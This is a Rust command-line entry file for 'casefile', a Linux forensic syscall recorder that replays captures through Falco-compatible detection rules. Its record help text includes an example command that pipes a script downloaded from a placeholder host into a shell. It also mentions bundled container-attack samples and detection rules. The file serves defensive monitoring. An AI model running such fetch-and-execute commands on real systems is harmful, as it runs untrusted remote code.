//! The `casefile` command line: parses arguments, runs one command, and turns errors
//! into messages and exit codes. Each command lives in its own module.

mod cat;
mod export_cmd;
mod info;
mod record;
mod replay_cmd;
mod rules_cmd;
mod sql_cmd;
mod test_cmd;
mod timespec;
mod tui_cmd;
mod tui_sql;

use clap::{Parser, Subcommand};
use std::path::PathBuf;
use std::process::ExitCode;

const EXIT_CODES: &str = "\
Exit status:
  0  success
  1  error: the file could not be read (not a capture, newer format, I/O error)
  2  usage error: unknown command or option
  3  the file was read, but damaged blocks were skipped (details on stderr or in the report)

A file whose recorder was killed ends with an incomplete block; that is reported
(\"bytes at the end are not a complete block\") but is not damage and exits 0.";

#[derive(Parser)]
#[command(
    name = "casefile",
    version,
    about = "A forensic flight recorder for Linux hosts",
    long_about = "casefile records what a Linux host does — syscalls with their process, file, \
                  user and container context — into compressed capture files, and lets you \
                  inspect them afterwards.",
    after_help = EXIT_CODES
)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

// Parsed once per run and matched at once: the size of its largest variant costs
// nothing, and boxing it would only obscure the derive.
#[allow(clippy::large_enum_variant)]
#[derive(Subcommand)]
enum Command {
    /// Summarize a capture: host, time range, event counts, integrity.
    ///
    /// Every block is decoded, so every checksum is verified. A truncated tail (a
    /// recorder that was killed) and corrupt blocks are reported with their offsets.
    #[command(after_help = EXIT_CODES)]
    Info {
        /// The capture file.
        file: PathBuf,
        /// Print one JSON object instead of text.
        #[arg(long)]
        json: bool,
    },
    /// Print the events of a capture, one per line.
    ///
    /// Text lines look like sysdig's: time, cpu, process (pid:tid), event type,
    /// arguments, and `= return value`. Strings from the observed host are escaped, so
    /// hostile process names or paths cannot inject terminal control sequences.
    #[command(after_help = concat!(
        "Times (--from, --to):\n",
        "  2026-11-23T05:37:01Z    wall-clock time, RFC 3339\n",
        "  +90s, +1m30s, +250ms    offset from the first event of the capture\n",
        "  123456789012            nanoseconds since boot (the events' own clock)\n\n",
        "Examples:\n",
        "  casefile cat capture.cfcap | less -S\n",
        "  casefile cat capture.cfcap --from +10s --to +20s\n",
        "  casefile cat capture.cfcap --json | jq 'select(.type == \"execve\")'\n\n",
        "Exit status: 0 success, 1 unreadable file, 2 usage error, 3 damaged blocks skipped."
    ))]
    Cat {
        /// The capture file.
        file: PathBuf,
        /// Print JSON lines (one object per event) instead of text.
        #[arg(long)]
        json: bool,
        /// Only events at or after this time.
        #[arg(long, value_name = "TIME", allow_hyphen_values = true)]
        from: Option<String>,
        /// Only events before this time.
        #[arg(long, value_name = "TIME", allow_hyphen_values = true)]
        to: Option<String>,
    },
    /// Record syscalls and process activity into a capture file (needs root).
    ///
    /// eBPF programs record every completed syscall of the chosen set with its
    /// arguments and return value, plus process fork, exec and exit, and a snapshot of
    /// every process and open file at the start. Blocks are flushed at least once a
    /// second: if casefile is killed, at most the last second is lost. Ctrl-C (SIGINT)
    /// or SIGTERM ends the recording cleanly.
    #[command(after_help = RECORD_HELP)]
    Record {
        /// The capture file to create (never overwritten).
        #[arg(short, long, value_name = "FILE")]
        output: PathBuf,
        /// Stop after this many seconds.
        #[arg(long, value_name = "SECS")]
        duration: Option<u64>,
        /// Stop when the file reaches this size (e.g. 500M, 2G).
        #[arg(long, value_name = "SIZE")]
        max_size: Option<String>,
        /// Flight-recorder mode: start a new file every SIZE (FILE-0000.case, …).
        #[arg(long, value_name = "SIZE")]
        rotate: Option<String>,
        /// With --rotate: keep the newest N files (default 10).
        #[arg(long, value_name = "N")]
        keep: Option<usize>,
        /// `security` (default: all but high-rate scheduling, timing and polling
        /// calls), `all`, or a list such as openat,connect,execve.
        #[arg(long, value_name = "SET", default_value = "security")]
        syscalls: String,
        /// Bytes of each read/write/send/recv buffer to keep (0: none).
        #[arg(long, value_name = "N", default_value_t = 80)]
        snaplen: u32,
        /// Record only this process and the processes it starts (repeatable).
        #[arg(long, value_name = "PID")]
        pid: Vec<u32>,
        /// Record only tasks in this cgroup v2 directory and below it.
        #[arg(long, value_name = "PATH")]
        cgroup: Option<PathBuf>,
        /// Kernel ring buffer size, a power of two.
        #[arg(long, value_name = "SIZE", default_value = "64M")]
        ring_size: String,
        /// No status line and no summary on stderr.
        #[arg(short, long)]
        quiet: bool,
        /// Evaluate these Falco rule files on the live stream (repeatable); alerts print
        /// on stdout as they happen, and equal those `casefile replay` gives on the file.
        #[arg(short, long, value_name = "PATH")]
        rules: Vec<PathBuf>,
        /// Also write the alerts to this file as JSON lines (created, never overwritten).
        #[arg(long, value_name = "FILE")]
        alerts: Option<PathBuf>,
        /// With --rotate and --rules: rotated files that hold an alert, precede it in the
        /// ring, or follow it are moved here instead of being deleted.
        #[arg(long, value_name = "DIR")]
        keep_on_alert: Option<PathBuf>,
        /// Create this file once recording has begun (probes attached, snapshot taken,
        /// the capture file written): it holds the ready line. Must not exist yet.
        #[arg(long, value_name = "PATH")]
        ready_file: Option<PathBuf>,
        /// Write the ready line to this inherited descriptor (above 2) once recording has
        /// begun, then close it: `casefile record --ready-fd 3 … 3>ready.fifo`.
        #[arg(long, value_name = "N")]
        ready_fd: Option<i32>,
        /// Run this command and record it and everything it starts; stop when it exits
        /// and exit with its exit code.
        #[arg(last = true, value_name = "COMMAND")]
        command: Vec<std::ffi::OsString>,
    },
    /// Replay captures through Falco-compatible rules and print the alerts.
    ///
    /// The state (processes, their ancestry, open files) is rebuilt from the capture's
    /// snapshot and events with the same engine `record --rules` runs live, so the same
    /// events give the same alerts. Several files of a rotated set replay as one
    /// timeline. Segments between checkpoints replay in parallel; the alerts are those of
    /// a sequential replay (`--threads 1`), in the same order. Damaged blocks are
    /// skipped and reported; everything intact is replayed.
    #[command(after_help = REPLAY_HELP)]
    Replay {
        /// Capture files (one capture, or every file of a rotated set).
        #[arg(required = true, value_name = "FILE")]
        files: Vec<PathBuf>,
        /// Rule files (Falco YAML), loaded in order; repeatable.
        #[arg(short, long, required = true, value_name = "PATH")]
        rules: Vec<PathBuf>,
        /// Print alerts as JSON lines shaped like Falco's (time, rule, priority, source,
        /// tags, hostname, output, output_fields).
        #[arg(long)]
        json: bool,
        /// Write alerts to this file (created; never overwritten) instead of stdout.
        #[arg(short, long, value_name = "FILE")]
        output: Option<PathBuf>,
        /// Only alert on events at or after this time.
        #[arg(long, value_name = "TIME", allow_hyphen_values = true)]
        from: Option<String>,
        /// Only alert on events before this time.
        #[arg(long, value_name = "TIME", allow_hyphen_values = true)]
        to: Option<String>,
        /// Worker threads: 1 replays sequentially; 0 uses every core.
        #[arg(long, value_name = "N", default_value_t = 0)]
        threads: usize,
        /// After the alerts, print them as a timeline: time from the first alert,
        /// priority, rule, and the process chain that acted (web server > sh > curl).
        #[arg(long)]
        timeline: bool,
        /// No progress and no summary on stderr.
        #[arg(short, long)]
        quiet: bool,
    },
    /// Run rule regression cases: captures plus the alerts they must give.
    ///
    /// A case is a directory with capture files and a case.yaml naming the rule files,
    /// the expected alerts per rule (exact or minimum count, optional output-field
    /// matches) and rules that must not fire (docs/CASES.md). Each case is replayed and
    /// every expectation checked; mismatches are listed with the case file's line.
    #[command(after_help = TEST_HELP)]
    Test {
        /// Case files, or directories searched for case.yaml files.
        #[arg(required = true, value_name = "PATH")]
        paths: Vec<PathBuf>,
        /// Also write the results as JUnit XML (for CI systems).
        #[arg(long, value_name = "FILE")]
        junit: Option<PathBuf>,
        /// Replay threads per case (0: every core).
        #[arg(long, value_name = "N", default_value_t = 0)]
        threads: usize,
    },
    /// Export captures as Parquet tables for SQL engines (DuckDB, Spark, Trino, Athena).
    ///
    /// Writes events, processes, files, connections, alerts and captures (docs/TABLES.md)
    /// as zstd-compressed Parquet with statistics, one directory per table. Rows carry the
    /// context the rules see (process, user, container, file descriptor), rebuilt by the
    /// same state engine. Segments export in parallel.
    Export(export_cmd::ExportArgs),
    /// Query captures or exports with SQL (DataFusion).
    ///
    /// Capture files are queried in place, with no export step; an export directory is
    /// read as Parquet. Without a query or --file, an interactive prompt with history.
    Sql(sql_cmd::SqlArgs),
    /// Investigate a capture interactively: alerts, timeline, process tree, detail.
    ///
    /// Opens at once, even on a large capture: events are read through the block
    /// index as they come on screen, and the rules run in the background. Keys: `?`.
    #[command(after_help = TUI_HELP)]
    Tui {
        /// The capture file.
        file: PathBuf,
        /// Rule files (Falco YAML) whose alerts the Alerts view lists; repeatable. Without
        /// it, casefile's bundled container-attack rules (the SCARLETEEL sample's).
        #[arg(short, long, value_name = "PATH")]
        rules: Vec<PathBuf>,
    },
    /// Work with Falco-compatible rule files.
    Rules {
        #[command(subcommand)]
        command: RulesCommand,
    },
}

#[derive(Subcommand)]
enum RulesCommand {
    /// Load Falco rule files and report what loaded and every problem.
    ///
    /// Files load in order; later files amend earlier ones (append, override), as in
    /// Falco. Each error names the file, line and column. Exits 1 when a file does not
    /// load cleanly.
    Check {
        /// Rule files (Falco YAML).
        #[arg(required = true)]
        files: Vec<PathBuf>,
        /// Print one JSON object: rules_total, rules_loaded, errors, warnings…
        #[arg(long)]
        json: bool,
    },
    /// List the fields conditions and outputs can use, with their types.
    Fields,
}

const RECORD_HELP: &str = "\
Examples:
  sudo casefile record -o incident.case                     record the host until Ctrl-C
  sudo casefile record -o web.case --duration 600 --pid 4242
  sudo casefile record -o x.case -- sh -c 'curl -s http://example.test | sh'
  sudo casefile record -o ring.case --rotate 256M --keep 8   keep the last 2 GB
  sudo casefile record -o live.case -r falco_rules.yaml --alerts alerts.jsonl
                                       alert live; the file replays to the same alerts
  sudo casefile record -o ring.case --rotate 64M --keep 4 -r rules.yaml --keep-on-alert kept/
                                       flight recorder that keeps what surrounds an alert
  sudo casefile record -o web.case --pid 4242 --ready-file /run/web.ready &
  while [ ! -e /run/web.ready ]; do sleep 0.1; done   # recording has begun: go on

Ready signal: once the probes are attached, the snapshot of /proc is taken and the file
holds it, casefile prints one line on stderr (unless --quiet), creates --ready-file and
writes it to --ready-fd (all three the same line):
  casefile: recording: pid=PID snapshot=N start_ts=NS file=PATH
PID is the recorder's, N the processes in the snapshot, NS the snapshot's boot-clock
time in nanoseconds, PATH the first file written (escaped; it runs to the end of the
line). From then on every process that starts is in the capture with its fork. With a
COMMAND, the command is started after it.

The file is created with mode 0600: it holds command lines, environments and data.
casefile's own syscalls are never recorded; it writes only its own events (capture
start and stop, drops) and, with a COMMAND, the command's fork.

Exit status: 0 success; with a COMMAND, the command's exit status; 1 error (not root,
no BTF, disk full: the message says which and what to do); 2 usage error.";

const REPLAY_HELP: &str = "\
Times (--from, --to): RFC 3339 (2026-11-23T05:37:01Z), an offset from the first event
(+90s, +1m30s) or nanoseconds since boot. Events before --from still update the state.

Examples:
  casefile replay attack.case -r rules/falco_rules.yaml
  casefile replay attack.case -r falco_rules.yaml -r local_rules.yaml --json -o alerts.jsonl
  casefile replay ring-*.case -r rules.yaml --from +10m --timeline

Alerts go to stdout (or --output); the summary (events, alerts by rule and priority,
events/s) and any damage skipped go to stderr.

Exit status: 0 success; 1 error (unreadable file, rules with errors); 2 usage error;
3 replayed, but damaged blocks were skipped.";

const TUI_HELP: &str = "\
Examples:
  casefile tui samples/scarleteel/scarleteel.case -r samples/scarleteel/rules/scarleteel_rules.yaml
  casefile tui incident.case -r falco_rules.yaml -r local.yaml

Keys: 1 Alerts, 2 Timeline, 3 Processes; Enter opens; p: the process; /: filter with a
Falco condition; t: jump to a time; ?: every key; q: quit. docs/TUI.md has a walk-through.";

const TEST_HELP: &str = "\
case.yaml:
  captures: [attack.case]                    # relative to case.yaml (default: *.case)
  rules: [rules/attack.yaml, {path: ../../falco_rules.yaml, optional: true}]
  expect:
    - rule: Shell Spawned by Web Server
      count: 1                               # exactly; or min_count: N
      match: {proc.name: sh, proc.pname: python3}
  must_not_fire: [Some Other Rule]

Examples:
  casefile test samples/
  casefile test samples/scarleteel --junit results.xml

A case whose optional rule file is absent is reported as SKIPPED with the reason.
Exit status: 0 every case passed (or was skipped); 1 a mismatch or a case that could not
run; 2 usage error.";

fn main() -> ExitCode {
    let cli = Cli::parse();
    let result = match &cli.command {
        Command::Info { file, json } => info::run(file, *json),
        Command::Cat {
            file,
            json,
            from,
            to,
        } => cat::run(
            file,
            &cat::CatOptions {
                json: *json,
                from: from.as_deref(),
                to: to.as_deref(),
            },
        ),
        Command::Replay {
            files,
            rules,
            json,
            output,
            from,
            to,
            threads,
            timeline,
            quiet,
        } => replay_cmd::run(&replay_cmd::ReplayArgs {
            files: files.clone(),
            rules: rules.clone(),
            json: *json,
            output: output.clone(),
            from: from.clone(),
            to: to.clone(),
            threads: *threads,
            timeline: *timeline,
            quiet: *quiet,
        }),
        Command::Export(args) => export_cmd::run(args).map(|()| false),
        Command::Sql(args) => sql_cmd::run(args).map(|()| false),
        Command::Test {
            paths,
            junit,
            threads,
        } => {
            return match test_cmd::run(paths, junit.as_ref(), *threads) {
                Ok(true) => ExitCode::SUCCESS,
                Ok(false) => ExitCode::from(1),
                Err(e) => {
                    eprintln!("casefile: error: {e:#}");
                    ExitCode::from(1)
                }
            };
        }
        Command::Tui { file, rules } => tui_cmd::run(file, rules).map(|()| false),
        Command::Rules {
            command: RulesCommand::Fields,
        } => {
            rules_cmd::fields();
            Ok(false)
        }
        Command::Rules {
            command: RulesCommand::Check { files, json },
        } => {
            return match rules_cmd::check(files, *json) {
                Ok(true) => ExitCode::SUCCESS,
                Ok(false) => ExitCode::from(1),
                Err(e) => {
                    eprintln!("casefile: error: {e:#}");
                    ExitCode::from(1)
                }
            };
        }
        Command::Record {
            output,
            duration,
            max_size,
            rotate,
            keep,
            syscalls,
            snaplen,
            pid,
            cgroup,
            ring_size,
            quiet,
            rules,
            alerts,
            keep_on_alert,
            ready_file,
            ready_fd,
            command,
        } => {
            let outcome = record::run(record::RecordArgs {
                output: output.clone(),
                duration: *duration,
                max_size: max_size.clone(),
                rotate: rotate.clone(),
                keep: *keep,
                syscalls: syscalls.clone(),
                snaplen: *snaplen,
                pid: pid.clone(),
                cgroup: cgroup.clone(),
                ring_size: ring_size.clone(),
                quiet: *quiet,
                rules: rules.clone(),
                alerts: alerts.clone(),
                keep_on_alert: keep_on_alert.clone(),
                ready_file: ready_file.clone(),
                ready_fd: *ready_fd,
                command: command.clone(),
            });
            return match outcome {
                Ok(record::Outcome::Done) => ExitCode::SUCCESS,
                Ok(record::Outcome::Command(code)) => ExitCode::from(code),
                Err(e) => {
                    eprintln!("casefile: error: {e:#}");
                    ExitCode::from(1)
                }
            };
        }
    };
    match result {
        Ok(false) => ExitCode::SUCCESS,
        Ok(true) => ExitCode::from(3),
        Err(e) => {
            eprintln!("casefile: error: {e:#}");
            ExitCode::from(1)
        }
    }
}
